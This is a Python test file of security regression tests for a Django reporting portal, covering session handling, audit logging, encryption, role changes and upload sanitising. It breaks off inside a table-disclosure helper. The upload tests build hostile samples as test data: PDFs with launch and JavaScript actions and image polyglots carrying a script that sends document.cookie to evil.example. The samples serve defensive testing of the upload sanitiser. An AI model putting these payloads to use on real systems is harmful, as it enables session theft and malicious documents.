"""The findings of the attack on a running portal (issue 18), one test per item, named after it.

Each test failed on the code before its fix. The item's number is in the test's name; the
docs/security.md section "Findings of the attack (issue 18)" says what changed and why.
"""

import io
from datetime import timedelta

import pytest
from axes.models import AccessAttempt, AccessLog
from django.conf import settings
from django.contrib.sessions.models import Session
from django.core.management.color import no_style
from django.db import DatabaseError, connection, transaction
from django.db.backends.postgresql.operations import DatabaseOperations
from django.utils import timezone, translation

from access.models import AccessLogEntry
from access.services import log_action, revoke_share
from accounts.models import UserSession
from accounts.services import end_sessions, purge_login_records
from organisations.models import Membership, Organisation
from tests.factories import OrganisationFactory
from tests.helpers import (
    current_totp,
    english_client,
    member_of,
    migrate_apps_to,
    migrate_to_the_latest,
    totp_device,
)

pytestmark = pytest.mark.django_db

Role = Membership.Role
PASSWORD = "lange-zin-met-woorden-42"


def test_07_the_session_key_changes_when_the_second_factor_is_given():
    user = member_of(
        OrganisationFactory(kind=Organisation.Kind.POLICE),
        Role.PROFESSIONAL,
        email="agent@politie.test",
        password=PASSWORD,
    )
    device = totp_device(user)
    client = english_client()
    client.post("/pro/login/", {"username": user.email, "password": PASSWORD})
    after_password = client.session.session_key

    response = client.post("/pro/2fa/verify/", {"token": current_totp(device)})
    assert response.status_code == 302
    after_second_factor = client.session.session_key
    # A key known before the second factor (fixed by an attacker, or seen over a shoulder) is
    # worthless afterwards.
    assert after_second_factor != after_password
    assert not Session.objects.filter(session_key=after_password).exists()
    assert client.get("/pro/").status_code == 200
    # The new key is the user's session still: ending their sessions reaches it.
    assert UserSession.objects.filter(user=user, session_id=after_second_factor).exists()
    end_sessions(user)
    assert client.get("/pro/").status_code == 302


def _professional(email="agent@politie.test"):
    return member_of(
        OrganisationFactory(kind=Organisation.Kind.POLICE),
        Role.PROFESSIONAL,
        email=email,
        password=PASSWORD,
    )


def test_08_successful_sign_ins_are_not_recorded_and_failures_go_after_the_kept_days():
    user = _professional()
    device = totp_device(user)
    client = english_client()
    client.post("/pro/login/", {"username": user.email, "password": "not-the-password"})
    client.post("/pro/login/", {"username": user.email, "password": PASSWORD})
    client.post("/pro/2fa/verify/", {"token": current_totp(device)})
    client.post("/pro/logout/")
    # No record of where and with what the professional signed in.
    assert not AccessLog.objects.exists()

    other = english_client()
    other.post("/pro/login/", {"username": user.email, "password": "wrong-again"})
    failure = AccessAttempt.objects.get()
    assert failure.failures_since_start == 1
    kept = settings.LOGIN_RECORDS_KEPT_DAYS
    assert purge_login_records(now=timezone.now() + timedelta(days=kept - 1)) == 0
    assert purge_login_records(now=timezone.now() + timedelta(days=kept, minutes=1)) == 1
    assert not AccessAttempt.objects.exists()
    assert settings.CELERY_BEAT_SCHEDULE["purge-login-records"]["task"] == (
        "accounts.tasks.purge_login_records"
    )


def _refused(statements: list[str]) -> None:
    with (
        pytest.raises(DatabaseError, match="append-only"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        for statement in statements:
            cursor.execute(statement)


# Committed, so that the flush after this test (devstack/postgresql) empties a log with rows in it.
@pytest.mark.django_db(transaction=True)
def test_12_the_access_log_cannot_be_truncated():
    log_action(None, signal=None, action=AccessLogEntry.Action.EXPORT, detail="kept")
    _refused(["TRUNCATE access_accesslogentry"])
    # Also not through a table whose TRUNCATE cascades to it.
    _refused(["TRUNCATE signals_signal CASCADE"])
    # Nor by the flush of Django's own backend, the one production runs; only the test run's
    # backend switches the trigger off around its flush, and on again.
    _refused(DatabaseOperations(connection).sql_flush(no_style(), ["access_accesslogentry"]))
    assert AccessLogEntry.objects.filter(detail="kept").count() == 1
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT tgenabled FROM pg_trigger WHERE tgname = 'access_log_refuses_truncate'"
        )
        assert cursor.fetchall() == [("O",)]


def test_11_assigning_to_an_address_answers_alike_whether_or_not_an_account_exists(world):
    from tests.test_api import session_client

    url = f"/api/v1/signals/{world.signal_a.public_id}/assign/"
    coordinator = session_client(world.coordinator_x)
    answers = [
        coordinator.post(url, {"assignee": email})
        for email in ("coordinator@y.test", "nobody-has-this-address@example.test")
    ]
    # An account of another organisation and no account at all: one status, one body.
    assert [answer.status_code for answer in answers] == [400, 400]
    assert answers[0].json() == answers[1].json()
    world.signal_a.refresh_from_db()
    assert world.signal_a.assigned_to is None


def test_06_queue_rows_show_no_description_only_the_logged_case_page_does(world):
    from tests.world import client_for

    description = world.signal_a.description
    coordinator = client_for(world, "X.coordinator")
    queue = coordinator.get("/pro/queue/").content.decode()
    assert str(world.signal_a.public_id) in queue
    assert description[:20] not in queue
    assert not AccessLogEntry.objects.filter(signal=world.signal_a).exists()
    case = coordinator.get(f"/pro/queue/{world.signal_a.public_id}/")
    assert description in case.content.decode()
    assert AccessLogEntry.objects.filter(
        signal=world.signal_a, action=AccessLogEntry.Action.VIEW
    ).exists()


def _schema_allows(schema: dict, value) -> bool:
    from jsonschema import Draft7Validator

    return Draft7Validator(schema).is_valid(value)


def _query_value(schema: dict, raw: str):
    """A query string value as the schema types it: "0" is the integer 0 where one is asked."""
    if schema.get("type") == "integer":
        try:
            return int(raw)
        except ValueError:
            return raw
    return raw


def test_17_the_schema_and_the_answers_agree_on_what_schemathesis_found(world):
    from drf_spectacular.generators import SchemaGenerator

    from tests.test_api import session_client

    schema = SchemaGenerator().get_schema(request=None, public=True)
    client = session_client(world.coordinator_x)
    parameters = {
        parameter["name"]: parameter["schema"]
        for parameter in schema["paths"]["/api/v1/signals/"]["get"]["parameters"]
    }
    disagreements = []
    for name, raw in [("page_size", "0"), ("page", "0"), ("page", "-1"), ("region", "")]:
        allowed = _schema_allows(parameters[name], _query_value(parameters[name], raw))
        status = client.get("/api/v1/signals/", {name: raw}).status_code
        if (status == 200) != allowed or status not in (200, 400):
            disagreements.append((name, raw, allowed, status))

    # Text of only non-breaking spaces, in a note and in a public report.
    note_schema = schema["components"]["schemas"]["NoteRequest"]
    body = {"body": "\u00a0\u00a0"}
    status = client.post(f"/api/v1/signals/{world.signal_a.public_id}/notes/", body).status_code
    if (status == 201) != _schema_allows(note_schema, body) or status not in (201, 400):
        disagreements.append(("note", body, status))
    report_schema = schema["components"]["schemas"]["PublicReportRequest"]
    report = {"description": "\u00a0"}
    status = session_client(world.officer).post("/api/v1/signals/public/", report).status_code
    if (status == 201) != _schema_allows(report_schema, report) or status not in (201, 400):
        disagreements.append(("public report", report, status))
    assert disagreements == []


def test_10_the_receipt_code_stays_on_the_server_until_the_report_is_sent(reporter):
    import re

    from django.core.cache import cache

    from intake.public import views
    from signals import receipts
    from signals.models import Signal
    from tests.test_public_report import CODE_PATTERN, STEPS, post_step

    post_step(reporter, "what", description="Kept on the server")
    for step in STEPS[1:]:
        post_step(reporter, step)
    code = reporter.session[views.DRAFT]["code"]
    check = reporter.get("/en/report/").content.decode()
    fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', check))
    fields.pop("step", None)
    # Nothing in the page, nor in what Send posts, holds the code, signed or otherwise.
    compact = code.replace("-", "")
    for value in [check, *fields.values()]:
        for decoded in _decodings(value):
            assert code not in decoded and compact not in decoded

    session_cookie = reporter.cookies[settings.SESSION_COOKIE_NAME].value
    first = post_step(reporter, "check", action="send", **fields)
    assert CODE_PATTERN.search(first.content.decode()).group(0) == code
    # Send pressed again (a double click, the browser still holding its cookie): the same code,
    # from the server, and only shortly.
    reporter.cookies[settings.SESSION_COOKIE_NAME] = session_cookie
    second = post_step(reporter, "check", action="send", **fields)
    assert CODE_PATTERN.search(second.content.decode()).group(0) == code
    assert Signal.objects.get().receipt_lookup == receipts.lookup_key(code)
    # What the server keeps for the double click is encrypted, in Redis, for a minute.
    redis = cache._cache.get_client()
    held = cache.make_key(views._sent_key(session_cookie))
    assert 0 < redis.ttl(held) <= 60
    assert compact.encode() not in redis.get(held) and code.encode() not in redis.get(held)


def _decodings(value: str) -> list[str]:
    """The value, and what a reader gets out of it as base64 (a signed token's payload is)."""
    import base64
    import binascii
    import zlib

    found = [value]
    for part in value.replace(":", ".").split("."):
        padded = part + "=" * (-len(part) % 4)
        try:
            raw = base64.urlsafe_b64decode(padded)
        except (binascii.Error, ValueError):
            continue
        for candidate in (raw, _inflated(raw, zlib)):
            found.append(candidate.decode("latin-1"))
    return found


def _inflated(raw: bytes, zlib) -> bytes:
    try:
        return zlib.decompress(raw)
    except zlib.error:
        return b""


def test_09_rate_limit_keys_rest_on_a_random_daily_salt_kept_only_in_redis(settings):
    import hashlib
    from pathlib import Path

    import yaml
    from django.test import RequestFactory
    from django.utils.crypto import salted_hmac

    from intake.public import ratelimit

    address = "198.51.100.23"
    request = RequestFactory().get("/", REMOTE_ADDR=address)
    redis = ratelimit._redis()
    for key in redis.scan_iter("*ratelimit*"):
        redis.delete(key)

    assert ratelimit.take(ratelimit.CODE_ATTEMPTS, request).allowed
    counters = {key.decode() for key in redis.scan_iter("*ratelimit:code:*")}
    assert len(counters) == 1
    # The old key: a salt derived from SECRET_KEY and the day. Whoever holds the key could work
    # out every address behind the counters.
    day = timezone.now().date().isoformat()
    old_salt = salted_hmac("signals.ratelimit.salt", day, algorithm="sha256").hexdigest()
    old_client = hashlib.sha256(f"{old_salt}:{address}".encode()).hexdigest()
    assert not any(old_client in key for key in counters)
    # Another SECRET_KEY: the same counter, so nothing of it comes from the key.
    settings.SECRET_KEY = "another-secret-key-that-is-long-enough-for-django-0123456789"
    ratelimit.take(ratelimit.CODE_ATTEMPTS, request)
    assert {key.decode() for key in redis.scan_iter("*ratelimit:code:*")} == counters
    # The salt is random, in Redis only, and goes at the end of the day.
    (salt_key,) = list(redis.scan_iter("*ratelimit-salt*"))
    assert len(redis.get(salt_key)) >= 32
    midnight = timezone.localtime().replace(hour=0, minute=0, second=0) + timedelta(days=1)
    assert 0 < redis.ttl(salt_key) <= (midnight - timezone.localtime()).total_seconds() + 1
    # A new day, a new salt: yesterday's counters cannot be linked to today's.
    redis.delete(salt_key)
    ratelimit.take(ratelimit.CODE_ATTEMPTS, request)
    assert {key.decode() for key in redis.scan_iter("*ratelimit:code:*")} - counters

    # In production the counters live in a Redis of their own that writes nothing to disk.
    compose = yaml.safe_load((Path(settings.BASE_DIR) / "docker-compose.yml").read_text())
    cache_url = compose["x-app"]["environment"]["CACHE_URL"]
    service = cache_url.split("//", 1)[1].split(":", 1)[0]
    command = compose["services"][service]["command"]
    assert command[command.index("--appendonly") + 1] == "no"
    assert command[command.index("--save") + 1] == ""
    assert "volumes" not in compose["services"][service]


def _stored(table: str, column: str, pk: int) -> str:
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {column} FROM {table} WHERE id = %s", [pk])
        return cursor.fetchone()[0]


def test_05_vehicle_descriptions_and_share_purposes_are_encrypted_and_not_logged(world):
    from access.models import Share
    from access.services import share_signal
    from tests.factories import VehicleFactory

    vehicle = VehicleFactory(signal=world.signal_a, description="Blauwe bestelbus van Jan Smit")
    assert "Jan Smit" not in _stored("signals_vehicle", "description", vehicle.pk)
    vehicle.refresh_from_db()
    assert vehicle.description == "Blauwe bestelbus van Jan Smit"

    share = share_signal(
        world.signal_a,
        organisation=world.inspectorate,
        by=world.coordinator_x,
        legal_basis=Share.LegalBasis.PUBLIC_TASK,
        purpose="Joint inspection at the home of Jan Smit",
        ends_on=timezone.localdate(),
    )
    assert "Jan Smit" not in _stored("access_share", "purpose", share.pk)
    assert Share.objects.get(pk=share.pk).purpose == "Joint inspection at the home of Jan Smit"
    # The append-only log, which nothing can clear, holds no free text.
    logged = AccessLogEntry.objects.get(action=AccessLogEntry.Action.SHARE)
    assert "Jan Smit" not in logged.purpose + logged.detail
    assert world.inspectorate.name in logged.detail


@pytest.mark.django_db(transaction=True)
def test_05_the_migrations_encrypt_what_was_stored_readable():
    from access.models import Share
    from signals.models import Vehicle

    old = migrate_apps_to(
        [
            ("signals", "0003_transfer_word_and_share_revoked"),
            ("access", "0006_access_log_refuses_truncate"),
        ]
    )
    signal = old.get_model("signals", "Signal").objects.create(description="d", language="nl")
    vehicle = old.get_model("signals", "Vehicle").objects.create(
        signal=signal, plate_raw="12-ABC-3", plate="12ABC3", description="Rode Audi van Piet"
    )
    organisation = old.get_model("organisations", "Organisation").objects.create(
        name="Inspectie", kind="labour_inspectorate"
    )
    user = old.get_model("accounts", "User").objects.create(email="zc@x.test")
    share = old.get_model("access", "Share").objects.create(
        signal=signal,
        organisation=organisation,
        shared_by=user,
        legal_basis="public_task",
        purpose="Bezoek aan Piet",
        ends_on=timezone.localdate(),
    )
    assert _stored("signals_vehicle", "description", vehicle.pk) == "Rode Audi van Piet"

    migrate_to_the_latest()
    assert "Piet" not in _stored("signals_vehicle", "description", vehicle.pk)
    assert "Piet" not in _stored("access_share", "purpose", share.pk)
    assert Vehicle.objects.get(pk=vehicle.pk).description == "Rode Audi van Piet"
    assert Share.objects.get(pk=share.pk).purpose == "Bezoek aan Piet"


def test_03_a_share_reaches_the_case_handling_roles_unless_it_names_others(world):
    from access.models import Share
    from access.selectors import signals_visible_to
    from access.services import share_signal
    from api.services import create_api_key
    from tests.test_api import key_client

    def readers() -> set[str]:
        return {
            visitor
            for visitor, user in world.users.items()
            if visitor.startswith("B.") and signals_visible_to(user).filter(pk=signal.pk).exists()
        }

    signal = world.signal_a
    _key, raw_key = create_api_key(
        world.inspectorate,
        name="Case system",
        scope="read",
        roles=[Role.PROFESSIONAL],
        by=world.users["B.organisation_admin"],
    )
    api = key_client(raw_key)
    url = f"/api/v1/signals/{signal.public_id}/"

    def share(**named) -> Share:
        return share_signal(
            signal,
            organisation=world.inspectorate,
            by=world.coordinator_x,
            legal_basis=Share.LegalBasis.PUBLIC_TASK,
            purpose="Joint inspection",
            ends_on=timezone.localdate(),
            **named,
        )

    default = share()
    assert readers() == {"B.professional", "B.coordinator"}
    assert api.get(url).status_code == 404
    # Through the object permission the Django way too.
    assert world.users["B.professional"].has_perm("signals.view_signal", signal)
    assert not world.users["B.organisation_admin"].has_perm("signals.view_signal", signal)
    revoke_share(default, by=world.coordinator_x)

    share(roles=[Role.PRIVACY_OFFICER])
    assert readers() == {"B.privacy_officer"}
    share(roles=[Role.PROFESSIONAL], api_keys=True)
    assert readers() == {"B.privacy_officer", "B.professional"}
    assert api.get(url).status_code == 200


def _subject_search(client, organisation, name: str):
    response = client.post(
        "/pro/privacy/subject-requests/",
        {
            "organisation": str(organisation.public_id),
            "reference": "AVG-2026-001",
            "purpose": "AVG art. 17",
            "name": name,
        },
    )
    assert response.status_code == 302, response.content.decode()[:500]
    return response["Location"]


def test_02_subject_requests_cover_only_what_the_organisation_is_controller_of(world):
    from access.models import Share
    from access.services import share_signal
    from tests.world import SECRET_NAME, client_for

    signal = world.signal_a  # submitted by A, coordinated by X
    share_signal(
        signal,
        organisation=world.inspectorate,
        by=world.coordinator_x,
        legal_basis=Share.LegalBasis.PUBLIC_TASK,
        purpose="Joint inspection",
        ends_on=timezone.localdate(),
        roles=[Role.PROFESSIONAL, Role.PRIVACY_OFFICER],
    )
    # B reads the case through the share, but is not its controller: its privacy officer finds,
    # exports and erases nothing of it.
    receiver = client_for(world, "B.privacy_officer")
    assert receiver.get(f"/pro/signals/{signal.public_id}/").status_code == 200
    location = _subject_search(receiver, world.inspectorate, SECRET_NAME)
    assert str(signal.public_id) not in receiver.get(location).content.decode()
    search_id = location.rstrip("/").split("/")[-1]
    assert receiver.get(f"/pro/privacy/subject-requests/{search_id}/export.json").status_code == 404
    erase = f"/pro/privacy/subject-requests/{search_id}/{signal.public_id}/erase/"
    assert receiver.post(erase, {"reason": "Granted"}).status_code == 404
    assert SECRET_NAME in [person.name for person in signal.persons.all()]

    # X coordinates it: its officer erases, and A, the other controller, sees it in its own log.
    officer = client_for(world, "X.privacy_officer")
    location = _subject_search(officer, world.coordination_x, SECRET_NAME)
    assert str(signal.public_id) in officer.get(location).content.decode()
    search_id = location.rstrip("/").split("/")[-1]
    erase = f"/pro/privacy/subject-requests/{search_id}/{signal.public_id}/erase/"
    assert officer.post(erase, {"reason": "Granted"}).status_code == 302
    assert SECRET_NAME not in [person.name for person in signal.persons.all()]

    def logged(organisation) -> set[str]:
        entries = AccessLogEntry.objects.filter(organisation=organisation, user__in=[officer_x])
        return {f"{entry.action}:{entry.signal_id}" for entry in entries}

    officer_x = world.users["X.privacy_officer"]
    search, erase = AccessLogEntry.Action.SUBJECT_SEARCH, AccessLogEntry.Action.ERASE
    assert logged(world.coordination_x) == {f"{search}:None", f"{erase}:{signal.pk}"}
    assert logged(world.police) == {f"{search}:{signal.pk}", f"{erase}:{signal.pk}"}
    assert not AccessLogEntry.objects.filter(
        organisation=world.inspectorate, action=AccessLogEntry.Action.ERASE
    ).exists()


def test_02_a_read_is_logged_for_the_organisation_the_reader_acts_for(world):
    from tests.factories import MembershipFactory, UserFactory
    from tests.helpers import signed_in
    from tests.world import client_for

    # A professional of the inspectorate first, a coordinator of X since: their first membership
    # is not the one they read signal A for.
    person = UserFactory(email="both@x.test")
    MembershipFactory(user=person, organisation=world.inspectorate, roles=[Role.PROFESSIONAL])
    MembershipFactory(user=person, organisation=world.coordination_x, roles=[Role.COORDINATOR])
    signal = world.signal_a  # coordinated by X, nothing to do with the inspectorate
    assert signed_in(person).get(f"/pro/queue/{signal.public_id}/").status_code == 200

    read = AccessLogEntry.objects.get(user=person, action=AccessLogEntry.Action.VIEW)
    assert read.organisation == world.coordination_x
    # The inspectorate's privacy officer does not learn of a signal it holds nothing of.
    log = client_for(world, "B.privacy_officer").get("/pro/access-log/").content.decode()
    assert str(signal.public_id) not in log


def _functional_admin():
    from tests.factories import UserFactory
    from tests.helpers import signed_in

    return signed_in(UserFactory(email="beheer@meldpunt.test", superuser=True))


def test_01_a_coordinator_removed_in_the_django_admin_keeps_no_access(world):
    from access.selectors import signals_visible_to
    from tests.factories import MembershipFactory
    from tests.helpers import signed_in
    from tests.world import SECRET_NAME

    coordinator = world.coordinator_x
    # Also a professional elsewhere, so the account stays active and can sign in again.
    MembershipFactory(user=coordinator, organisation=world.inspectorate)
    case = f"/pro/queue/{world.signal_a.public_id}/"
    sessions = [signed_in(coordinator) for _ in range(3)]
    assert sessions[0].get(case).status_code == 200
    membership = Membership.objects.get(user=coordinator, organisation=world.coordination_x)

    page = f"/beheer/organisations/membership/{membership.pk}/delete/"
    deleted = _functional_admin().post(page, {"post": "yes"})
    assert deleted.status_code == 302
    assert not Membership.objects.filter(pk=membership.pk).exists()

    for session in sessions:
        response = session.get(case)
        assert response.status_code in (302, 404)
        assert SECRET_NAME not in response.content.decode()
        assert session.get(f"/api/v1/signals/{world.signal_a.public_id}/").status_code in (
            401,
            403,
            404,
        )
    fresh = signed_in(coordinator)
    assert fresh.get(case).status_code == 404
    assert str(world.signal_a.public_id) not in fresh.get("/pro/signals/").content.decode()
    assert not signals_visible_to(coordinator).exists()
    assert not coordinator.groups.filter(name__contains=str(world.coordination_x.public_id))


def test_01_every_other_way_of_changing_a_membership_ends_access_too(world):
    from access.selectors import signals_visible_to
    from tests.helpers import signed_in

    coordinator = world.coordinator_x
    case = f"/pro/queue/{world.signal_a.public_id}/"
    membership = Membership.objects.get(user=coordinator, organisation=world.coordination_x)
    admin = _functional_admin()

    # The organisation's page in the Django admin shows its members, but changes none there.
    page = admin.get(f"/beheer/organisations/organisation/{world.coordination_x.pk}/change/")
    assert page.status_code == 200
    assert 'name="memberships-0-roles"' not in page.content.decode()

    # A role taken away on the membership's own page: out at once.
    session = signed_in(coordinator)
    changed = admin.post(
        f"/beheer/organisations/membership/{membership.pk}/change/",
        {"roles": [Role.PROFESSIONAL]},
    )
    assert changed.status_code == 302, changed.content.decode()[:2000]
    assert session.get(case).status_code == 302
    assert not signals_visible_to(coordinator).exists()

    # A shell: a queryset delete goes through the same steps; a bulk update is refused.
    Membership.objects.filter(pk=membership.pk).update
    with pytest.raises(PermissionError):
        Membership.objects.filter(pk=membership.pk).update(roles=[Role.COORDINATOR])
    membership.refresh_from_db()
    membership.roles = [Role.COORDINATOR]
    membership.save()
    assert signals_visible_to(coordinator).exists()
    session = signed_in(coordinator)
    Membership.objects.filter(pk=membership.pk).delete()
    assert session.get(case).status_code == 302
    assert not signals_visible_to(coordinator).exists()
    coordinator.refresh_from_db()
    assert not coordinator.is_active  # no organisation left


def test_13_an_admins_own_roles_are_audited_and_the_privacy_role_needs_a_second_admin(world):
    from organisations.models import MembershipChange, RoleRequest
    from tests.helpers import member_of, signed_in
    from tests.world import client_for

    police = world.police
    admin = world.users["A.organisation_admin"]
    colleague = member_of(police, Role.ORGANISATION_ADMIN, email="second-admin@a.test")
    own = Membership.objects.get(user=admin, organisation=police)
    page = f"/pro/organisation/{police.public_id}/"
    roles_url = f"{page}members/{own.public_id}/roles/"
    client = client_for(world, "A.organisation_admin")

    # Giving oneself a role: done, and recorded as done by oneself.
    client.post(roles_url, {f"{own.public_id}-roles": [Role.ORGANISATION_ADMIN, Role.ANALYST]})
    change = MembershipChange.objects.filter(member=admin).latest("pk")
    assert (change.by, change.kind) == (admin, MembershipChange.Kind.ROLES)
    assert change.roles_after == [Role.ANALYST, Role.ORGANISATION_ADMIN]

    # The privacy officer's role, taken by oneself: asked for, not given.
    asked = client.post(
        roles_url, {f"{own.public_id}-roles": [Role.ORGANISATION_ADMIN, Role.PRIVACY_OFFICER]}
    )
    assert asked.status_code == 302
    own.refresh_from_db()
    assert Role.PRIVACY_OFFICER not in own.roles
    request = RoleRequest.objects.get(membership=own, decided_at__isnull=True)
    # The analyst's role went with this change: signed out, as anyone who loses a role.
    assert asked["Location"] == "/pro/login/"
    client = signed_in(admin)
    assert client.get("/pro/access-log/").status_code == 404
    # Not approved by the one who asked ...
    approve = f"{page}requests/{request.public_id}/approve/"
    client.post(approve)
    own.refresh_from_db()
    assert Role.PRIVACY_OFFICER not in own.roles
    # ... but by another admin.
    assert signed_in(colleague).post(approve).status_code == 302
    own.refresh_from_db()
    assert Role.PRIVACY_OFFICER in own.roles
    kinds = list(
        MembershipChange.objects.filter(member=admin).order_by("pk").values_list("kind", "by")
    )
    assert (MembershipChange.Kind.REQUESTED, admin.pk) in kinds
    assert (MembershipChange.Kind.APPROVED, colleague.pk) in kinds
    members_page = signed_in(colleague).get(page).content.decode()
    assert "themself" in members_page and "Role approved by a second admin" in members_page
    # The organisation's privacy officer, who audits, sees the same record under the log.
    log = client_for(world, "A.privacy_officer").get("/pro/access-log/").content.decode()
    assert "Asked for a role that needs a second admin" in log and admin.email in log

    # Nor by inviting one's own address.
    invited = client.post(f"{page}invite/", {"email": admin.email, "roles": [Role.PRIVACY_OFFICER]})
    assert invited.status_code == 400

    # The organisation pages do not exist for anyone but an admin.
    assert client_for(world, "A.professional").get("/pro/organisation/").status_code == 404


def _zip_with_a_program() -> bytes:
    import io
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("invoice.exe", b"MZ\x90\x00 a program")
    return archive.getvalue()


def _pdf_with(change) -> bytes:
    import io

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _launch(writer) -> None:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )


def _document_javascript(writer) -> None:
    """Document-level JavaScript, in the catalogue's name tree (run when the file opens)."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    names = ArrayObject([TextStringObject("start"), writer._add_object(action)])
    tree = DictionaryObject({NameObject("/Names"): names})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def _on_page_open(writer) -> None:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("app.alert(1)"),
                }
            )
        }
    )


def _raw_pdf_with_escaped_javascript() -> bytes:
    """A hand-written PDF whose open action is JavaScript under a name written with an escape
    (/J#61vaScript), as attackers do to pass naive byte searches."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
    ]
    body, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return body


def test_15_pdfs_that_are_archives_or_hold_active_content_are_refused():
    from django.core.exceptions import ValidationError
    from django.core.files.uploadedfile import SimpleUploadedFile
    from pypdf import PdfReader

    from intake import uploads
    from tests.helpers import pdf_bytes

    hostile = {
        "zip behind a PDF header": b"%PDF-1.7\n" + _zip_with_a_program(),
        "PDF with a ZIP after its end": pdf_bytes() + _zip_with_a_program(),
        "JavaScript": _pdf_with(_document_javascript),
        "launch": _pdf_with(_launch),
        "embedded file": _pdf_with(lambda w: w.add_attachment("invoice.exe", b"MZ program")),
        "action on opening a page": _pdf_with(_on_page_open),
        "escaped JavaScript": _raw_pdf_with_escaped_javascript(),
    }
    accepted = []
    for name, data in hostile.items():
        try:
            uploads.clean_upload(SimpleUploadedFile("statement.pdf", data))
        except ValidationError as refused:
            assert refused.code in ("active_pdf", "wrong_type"), name
        else:
            accepted.append(name)
    assert accepted == []
    # A plain document passes, written anew: still a PDF of one page.
    clean = uploads.clean_upload(SimpleUploadedFile("statement.pdf", pdf_bytes(b" note")))
    assert len(PdfReader(io.BytesIO(clean.data)).pages) == 1
    assert b" note" not in clean.data


def test_15_an_image_kept_with_its_metadata_is_an_image_and_nothing_else():
    import zlib

    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    from intake import uploads
    from tests.test_public_report import jpeg_with_exif

    picture = Image.new("RGBA", (16, 16), (10, 200, 30, 255))
    output = io.BytesIO()
    picture.save(output, format="PNG")
    png = output.getvalue()
    html = b"<html><script>fetch('https://evil.example/?'+document.cookie)</script></html>"
    text = b"Comment\x00" + html
    chunk = len(text).to_bytes(4, "big") + b"tEXt" + text
    chunk += zlib.crc32(b"tEXt" + text).to_bytes(4, "big")
    polyglot = png[:33] + chunk + png[33:] + html  # a text chunk after IHDR, HTML after IEND

    kept = uploads.clean_upload(SimpleUploadedFile("p.png", polyglot), keep_metadata=True)
    assert b"<html" not in kept.data and b"script" not in kept.data
    with Image.open(io.BytesIO(kept.data)) as image:
        assert image.tobytes() == picture.tobytes()

    # A JPEG keeps its camera data, but not a comment or what follows its end.
    jpeg = jpeg_with_exif()
    comment = b"\xff\xfe" + (len(html) + 2).to_bytes(2, "big") + html
    hostile = jpeg[:2] + comment + jpeg[2:] + html
    kept = uploads.clean_upload(SimpleUploadedFile("j.jpg", hostile), keep_metadata=True)
    assert kept.data == jpeg
    with Image.open(io.BytesIO(kept.data)) as image:
        assert image.getexif()[0x010F] == "SpyCamMaker"


# Item 4: an attacker who reads every table the monitor publishes for a year.

# Per region, per source, minors, outcomes: the same signals, the same totals.
SIGNAL_TABLES = (1, 3, 4, 9)


def published_table_count() -> int:
    """How many tables the monitor publishes (each period has them all)."""
    from monitor.selectors import year_tables

    return len(year_tables(2000))


def _published(client, key: str) -> list[tuple[list[tuple[str, str]], str]]:
    """Every table of a period as its CSV export gives it: (rows, total) per table."""
    import csv

    tables = []
    for index in range(published_table_count()):
        response = client.get(f"/pro/monitor/export/{index}.csv", {"period": key})
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        tables.append(([tuple(row) for row in rows[1:-1]], rows[-1][1]))
    return tables


def _tables_of(period) -> list[tuple[list[tuple[str, str]], str]]:
    """What `_published` reads from the exports, straight from the selector (in English)."""
    from monitor.selectors import all_tables

    with translation.override("en"):
        return [
            ([(cell.label, cell.shown) for cell in table.cells], table.total)
            for table in all_tables(period)
        ]


def _attack(published: dict[str, list], year: int) -> list[tuple]:
    """What the attacker can solve for among the cells the monitor hid: the system of every
    published cell and total (a quarter is the sum of its months, a year of its quarters; the
    tables of the signals share their totals month by month)."""
    from fractions import Fraction

    from monitor.selectors import FixedPeriod

    def variables(index, period, label=None):
        months = FixedPeriod.from_key(period).months
        base = 1 if index == 0 else index  # the rows of table 0 are the months' totals
        labels = [label] if label is not None else None
        return {(base, month, name): 1 for month in months for name in (labels or _labels[base])}

    _labels = {
        index: [row[0] for row in published[f"{year}-01"][index][0]]
        for index in range(1, len(published[f"{year}-01"]))
    }
    known, hidden = [], []
    for period, tables in published.items():
        for index, (rows, total) in enumerate(tables):
            for label, shown in rows:
                equation = variables(0, label) if index == 0 else variables(index, period, label)
                (hidden if shown in ("<5", "·") else known).append(
                    (equation, (period, index, label))
                )
            (hidden if total in ("<5", "·") else known).append(
                (variables(index, period), (period, index, "total"))
            )
    identities = []
    for index in SIGNAL_TABLES[1:]:
        for month in range(1, 13):
            identity = {(index, month, name): 1 for name in _labels[index]}
            identity.update({(1, month, name): -1 for name in _labels[1]})
            identities.append(identity)

    # Cells published for a single month are values: the rest is solved over what is hidden.
